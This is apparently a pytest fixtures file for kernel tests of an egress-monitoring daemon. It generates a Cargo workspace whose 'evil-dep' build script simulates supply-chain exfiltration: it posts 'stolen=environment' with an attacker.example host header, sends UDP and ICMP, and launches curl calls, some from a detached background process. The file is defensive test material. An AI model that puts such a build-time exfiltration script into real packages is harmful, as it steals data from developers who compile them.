"""Fixtures for kernel tests: root, a test host, the real daemon, real cargo workspaces.

These tests never skip. If the machine cannot run them (not root, no cgroup2, no iptables,
no cargo) they fail with the reason, so a CI run can never pass green without them.
"""

from __future__ import annotations

import contextlib
import itertools
import os
import shutil
import signal
import socket
import subprocess
import sys
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from egress_monitor.enforce.cgroups import Cgroups
from egress_monitor.enforce.firewall import Firewall
from tests.kernel.netlab import (
    TestHost,
    env_with_cargo,
    leftover_state,
    read_jsonl,
    wait_until,
)

REPO = Path(__file__).resolve().parents[2]
_counter = itertools.count()


def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
    for item in items:
        if "tests/kernel" in str(item.fspath):
            item.add_marker(pytest.mark.kernel)


@pytest.fixture(scope="session", autouse=True)
def kernel_prerequisites() -> None:
    """Fail (never skip) when the machine cannot run kernel tests."""
    problems = []
    if os.geteuid() != 0:
        problems.append("kernel tests need root")
    for tool in ("iptables", "ip6tables", "iptables-restore", "ip", "curl"):
        if shutil.which(tool) is None:
            problems.append(f"{tool} is not installed (make test installs it)")
    if shutil.which("cargo", path=env_with_cargo()["PATH"]) is None:
        problems.append("cargo is not installed")
    if not any("cgroup2" in line for line in Path("/proc/self/mountinfo").read_text()
               .splitlines()):
        problems.append("no cgroup2 hierarchy is mounted")
    if problems:
        pytest.fail("cannot run kernel tests: " + "; ".join(problems), pytrace=False)


@pytest.fixture
def test_host(tmp_path: Path) -> Iterator[TestHost]:
    """A host in its own network namespace, recording what it receives."""
    index = next(_counter) % 60
    host = TestHost(f"{os.getpid() % 10000}-{index}", index, tmp_path)
    try:
        yield host
    finally:
        host.close()


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port: int = s.getsockname()[1]
        return port


class DaemonHandle:
    """The running daemon as a test sees it: its events, its metrics, its control socket."""

    def __init__(self, tmp: Path) -> None:
        self.events_path = tmp / "events.jsonl"
        self.runtime_dir = tmp / "run"
        self.port = _free_port()
        self.log_path = tmp / "daemon.log"
        self.proc: subprocess.Popen[bytes] | None = None

    def start(self, *extra: str) -> None:
        """Start and wait until the metrics endpoint answers (kernel hooks in place)."""
        log = open(self.log_path, "ab")  # noqa: SIM115 - the child keeps it
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "egress_monitor.cli", "run", "--events",
             str(self.events_path), "--metrics-listen", f"127.0.0.1:{self.port}",
             "--runtime-dir", str(self.runtime_dir), *extra],
            stdout=log, stderr=log, cwd=REPO)
        log.close()
        wait_until("the daemon's metrics endpoint", self._ready, timeout=30)

    def _ready(self) -> bool:
        assert self.proc is not None
        if self.proc.poll() is not None:
            raise AssertionError(f"daemon exited with {self.proc.returncode}:\n{self.log()}")
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{self.port}/metrics", timeout=1):
                return True
        except OSError:
            return False

    def log(self) -> str:
        """The daemon's stderr so far."""
        return self.log_path.read_text() if self.log_path.exists() else ""

    def metrics(self) -> str:
        """The metrics text now."""
        with urllib.request.urlopen(f"http://127.0.0.1:{self.port}/metrics", timeout=5) as r:
            text: str = r.read().decode()
            return text

    def metric(self, name: str, **labels: str) -> float:
        """One sample's value (0 when the series does not exist yet)."""
        for line in self.metrics().splitlines():
            if line.startswith("#") or not line.startswith(name):
                continue
            series, _, value = line.rpartition(" ")
            if series.partition("{")[0] != name:
                continue
            if all(f'{k}="{v}"' in series for k, v in labels.items()):
                return float(value)
        return 0.0

    def events(self, type_: str | None = None) -> list[dict[str, Any]]:
        """Events written so far, optionally of one type."""
        return [e for e in read_jsonl(self.events_path) if type_ is None or e["type"] == type_]

    def wait_event(self, what: str, predicate: Callable[[dict[str, Any]], bool],
                   timeout: float = 30) -> dict[str, Any]:
        """The first event matching ``predicate``, waiting for it to be written."""
        def find() -> dict[str, Any] | None:
            return next((e for e in self.events() if predicate(e)), None)
        found: dict[str, Any] = wait_until(what, find, timeout=timeout)
        return found

    def stop(self) -> int:
        """SIGTERM and wait; returns the exit status."""
        assert self.proc is not None
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=20)
            except subprocess.TimeoutExpired:
                self.proc.send_signal(signal.SIGUSR1)  # stacks into the log, for the report
                with contextlib.suppress(subprocess.TimeoutExpired):
                    self.proc.wait(timeout=1)
                self.proc.kill()
                self.proc.wait()
        return self.proc.returncode

    def exec_argv(self, *cmd: str) -> list[str]:
        """An ``egress-monitor exec`` command line talking to this daemon."""
        return [sys.executable, "-m", "egress_monitor.cli", "exec", "--runtime-dir",
                str(self.runtime_dir), "--", *cmd]


@pytest.fixture
def daemon(tmp_path: Path) -> Iterator[DaemonHandle]:
    """The real daemon, in audit mode, stopped cleanly and checked for leftovers."""
    handle = DaemonHandle(tmp_path)
    handle.start()
    try:
        yield handle
    finally:
        status = handle.stop()
        left = leftover_state()
        if left:  # a failed test must not leave state behind for the next one
            Firewall().remove()
            cgroups = Cgroups.discover()
            for rel in cgroups.build_cgroups():
                cgroups.release(rel)
        assert status == 0, f"daemon exited with {status}:\n{handle.log()}"
        assert not left, f"daemon left kernel state behind: {left}"


BUILD_RS = r'''
use std::io::{Read, Write};
use std::net::{TcpStream, UdpSocket};
use std::process::Command;
use std::time::Duration;

fn post(addr: &str, path: &str) {
    let mut s = TcpStream::connect(addr).expect("connect");
    s.set_read_timeout(Some(Duration::from_secs(10))).ok();
    let body = "stolen=environment";
    write!(s, "POST {} HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: {}\r\n\
Connection: close\r\n\r\n{}", path, body.len(), body).unwrap();
    let mut answer = String::new();
    let _ = s.read_to_string(&mut answer);
}

fn udp(bind: &str, to: &str, msg: &[u8]) {
    // Wait for the echo: the socket must outlive the daemon's look-up of its owner.
    let s = UdpSocket::bind(bind).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    s.send_to(msg, to).unwrap();
    let mut buf = [0u8; 64];
    s.recv_from(&mut buf).expect("udp echo");
}

fn main() {
    println!("cargo:rerun-if-env-changed=EM_ACTIONS");
    let v4 = std::env::var("EM_V4").unwrap_or_default();
    let v6 = std::env::var("EM_V6").unwrap_or_default();
    let dir = std::env::var("EM_DIR").unwrap_or_default();
    for action in std::env::var("EM_ACTIONS").unwrap_or_default().split(',') {
        match action {
            "" => {}
            "post4" => post(&format!("{}:8080", v4), "/post4"),
            "post6" => post(&format!("[{}]:8080", v6), "/post6"),
            "udp4" => udp("0.0.0.0:0", &format!("{}:5353", v4), b"udp4"),
            "udp6" => udp("[::]:0", &format!("[{}]:5353", v6), b"udp6"),
            "child" => {
                let url = format!("http://{}:8080/child", v4);
                let st = Command::new("curl")
                    .args(["-s", "-o", "/dev/null", "-X", "POST", "-d", "from=child", &url])
                    .status().unwrap();
                assert!(st.success());
            }
            "icmp4" => {
                let st = Command::new("python3").arg(format!("{}/ping.py", dir)).arg(&v4)
                    .status().unwrap();
                assert!(st.success());
            }
            "detach" => {
                let script = format!("(setsid sh -c 'while [ ! -e {d}/go ]; do sleep 0.02; \
done; curl -s -o /dev/null -X POST -d late=1 http://{v}:8080/detached; touch {d}/done' \
</dev/null >/dev/null 2>&1 &)", d = dir, v = v4);
                Command::new("sh").arg("-c").arg(script).status().unwrap();
            }
            other => panic!("unknown action {}", other),
        }
    }
}
'''

PING_PY = r'''
import os, socket, struct, sys
def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF
# A fresh echo id: conntrack keeps an answered echo flow for 30 s, and a request that
# matches it is not a new flow.
ident = (os.getpid() ^ int.from_bytes(os.urandom(2), "big")) & 0xFFFF
header = struct.pack("!BBHHH", 8, 0, 0, ident, 1) + b"egress-monitor-test"
packet = header[:2] + struct.pack("!H", checksum(header + b"\0")) + header[4:]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.settimeout(10)
s.sendto(packet, (sys.argv[1], 0))
s.recv(1024)
'''


class Workspace:
    """A generated Cargo workspace: ``app`` depends on path crate ``evil-dep`` 0.3.10,
    whose build script does what ``EM_ACTIONS`` says."""

    def __init__(self, root: Path) -> None:
        self.root = root
        (root / "app" / "src").mkdir(parents=True)
        (root / "evil-dep" / "src").mkdir(parents=True)
        (root / "Cargo.toml").write_text(
            '[workspace]\nmembers = ["app", "evil-dep"]\nresolver = "2"\n')
        (root / "app" / "Cargo.toml").write_text(
            '[package]\nname = "app"\nversion = "1.0.0"\nedition = "2021"\n\n'
            '[dependencies]\nevil-dep = { path = "../evil-dep" }\n')
        (root / "app" / "src" / "main.rs").write_text("fn main() { evil_dep::hello(); }\n")
        (root / "evil-dep" / "Cargo.toml").write_text(
            '[package]\nname = "evil-dep"\nversion = "0.3.10"\nedition = "2021"\n'
            'build = "build.rs"\n')
        (root / "evil-dep" / "src" / "lib.rs").write_text("pub fn hello() {}\n")
        (root / "evil-dep" / "build.rs").write_text(BUILD_RS)
        (root / "ping.py").write_text(PING_PY)

    def cargo_build(self, host: TestHost, actions: str,
                    wrap: Callable[[list[str]], list[str]] | None = None
                    ) -> subprocess.CompletedProcess[str]:
        """``cargo build --offline`` with the build script doing ``actions``."""
        env = env_with_cargo()
        env.update(EM_ACTIONS=actions, EM_V4=host.v4, EM_V6=host.v6, EM_DIR=str(self.root),
                   CARGO_TARGET_DIR=str(self.root / "target"))
        cargo = shutil.which("cargo", path=env["PATH"])
        assert cargo is not None
        argv = [cargo, "build", "--offline", "-q"]
        result = subprocess.run(wrap(argv) if wrap else argv, cwd=self.root, env=env,
                                capture_output=True, text=True, timeout=300, check=False)
        assert result.returncode == 0, f"cargo build failed:\n{result.stderr}"
        return result


@pytest.fixture
def workspace(tmp_path: Path) -> Workspace:
    """A fresh workspace (and target directory) per test, so the build script runs."""
    return Workspace(tmp_path / "ws")
